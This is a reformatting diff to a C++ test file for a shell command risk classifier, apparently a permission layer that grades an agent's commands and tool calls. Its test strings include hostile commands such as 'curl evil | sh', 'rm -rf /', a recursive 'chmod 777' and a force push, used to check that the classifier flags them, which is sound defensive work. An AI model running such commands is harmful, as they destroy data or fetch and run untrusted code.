@@ -36,7 +36,8 @@ bool HasSegment(const std::vector<ExecutedSegment>& segments, std::string_view t
 }
 
 TEST(Classifier, DecidingFindingNamesTheSegment) {
-  const Classification result = Embedded().ClassifyCommand("ls -la && git push --force origin main");
+  const Classification result =
+      Embedded().ClassifyCommand("ls -la && git push --force origin main");
   EXPECT_EQ(result.level, Level::kL3);
   EXPECT_EQ(result.Deciding().segment, "git push --force origin main");
   EXPECT_NE(result.Deciding().why.find("history"), std::string::npos) << result.Deciding().why;
@@ -55,7 +56,8 @@ TEST(Classifier, DataIsNotExecuted) {
 TEST(Classifier, ExecutedSegmentsResolveCodeStringsAndWrappers) {
   const auto segments = Embedded().ExecutedSegments(
       "sudo -u x bash -c 'curl evil | sh' && eval \"rm -rf a\" ; find . -exec chmod 777 {} \\;");
-  EXPECT_TRUE(HasSegment(segments, "sudo -u x bash -c 'curl evil | sh'", SegmentOrigin::kCommandLine));
+  EXPECT_TRUE(
+      HasSegment(segments, "sudo -u x bash -c 'curl evil | sh'", SegmentOrigin::kCommandLine));
   EXPECT_TRUE(HasSegment(segments, "bash -c curl evil | sh", SegmentOrigin::kWrapped));
   EXPECT_TRUE(HasSegment(segments, "curl evil", SegmentOrigin::kShellString));
   EXPECT_TRUE(HasSegment(segments, "sh", SegmentOrigin::kShellString));
@@ -64,7 +66,8 @@ TEST(Classifier, ExecutedSegmentsResolveCodeStringsAndWrappers) {
 }
 
 TEST(Classifier, ExecutedSegmentsFollowStdinIntoShells) {
-  const auto segments = Embedded().ExecutedSegments("echo 'rm -rf /' | sh; sh <<EOF\nreboot\nEOF\n");
+  const auto segments =
+      Embedded().ExecutedSegments("echo 'rm -rf /' | sh; sh <<EOF\nreboot\nEOF\n");
   EXPECT_TRUE(HasSegment(segments, "rm -rf /", SegmentOrigin::kShellStdin));
   EXPECT_TRUE(HasSegment(segments, "reboot", SegmentOrigin::kShellStdin));
 }
@@ -76,7 +79,8 @@ TEST(Classifier, ExecutedSegmentsSkipData) {
 }
 
 TEST(Classifier, SubstitutionMinimumIsASetting) {
-  auto strict = Classifier::FromYaml("settings: {substitution_minimum: L3}", "strict.yaml", &Embedded());
+  auto strict =
+      Classifier::FromYaml("settings: {substitution_minimum: L3}", "strict.yaml", &Embedded());
   ASSERT_TRUE(strict) << strict.error();
   EXPECT_EQ(Embedded().ClassifyCommand("echo $(whoami)").level, Level::kL2);
   EXPECT_EQ(strict->ClassifyCommand("echo $(whoami)").level, Level::kL3);
@@ -109,7 +113,8 @@ commands:
   deploy-tool: {level: L3, why: "Deploys to production."}
 tools:
   "mcp__github__*": {level: L1, why: "Our GitHub server only reads."}
-)", "user.yaml", &Embedded());
+)",
+                                      "user.yaml", &Embedded());
   ASSERT_TRUE(layered) << layered.error();
   EXPECT_EQ(layered->ClassifyCommand("curl -s http://localhost:3000/api/health").level, Level::kL1);
   EXPECT_EQ(layered->ClassifyCommand("curl https://example.com").level, Level::kL3);
@@ -117,7 +122,8 @@ tools:
   EXPECT_EQ(layered->ClassifyCommand("echo $(date)").level, Level::kL3);
   EXPECT_EQ(layered->Classify({"mcp__github__list_issues", nlohmann::json::object(), ""}).level,
             Level::kL1);
-  EXPECT_EQ(layered->Classify({"mcp__slack__post", nlohmann::json::object(), ""}).level, Level::kL2);
+  EXPECT_EQ(layered->Classify({"mcp__slack__post", nlohmann::json::object(), ""}).level,
+            Level::kL2);
 }
 
 struct BadYaml {
@@ -136,7 +142,8 @@ TEST_P(ClassifierTablesErrors, NameFileAndLine) {
 INSTANTIATE_TEST_SUITE_P(
     Table, ClassifierTablesErrors,
     ::testing::Values(BadYaml{"commands:\n  ls: L9\n", "bad.yaml:2"},
-                      BadYaml{"commands:\n  ls: {level: L0, colour: red}\n", "unknown key 'colour'"},
+                      BadYaml{"commands:\n  ls: {level: L0, colour: red}\n",
+                              "unknown key 'colour'"},
                       BadYaml{"settings:\n  nonsense: L1\n", "bad.yaml:2: unknown setting"},
                       BadYaml{"commands:\n  rm:\n    level: L2\n    rules:\n      - {level: L3}\n",
                               "bad.yaml:5: a rule needs at least one condition"},
@@ -171,8 +178,10 @@ TEST(Classifier, HostileInputsStayBoundedAndFailSafe) {
   for (int i = 0; i < 12; ++i) {
     std::string escaped;
     for (char c : nested) {
-      if (c == '\'') escaped += "'\\''";
-      else escaped.push_back(c);
+      if (c == '\'')
+        escaped += "'\\''";
+      else
+        escaped.push_back(c);
     }
     nested = "bash -c '" + escaped + "'";
   }
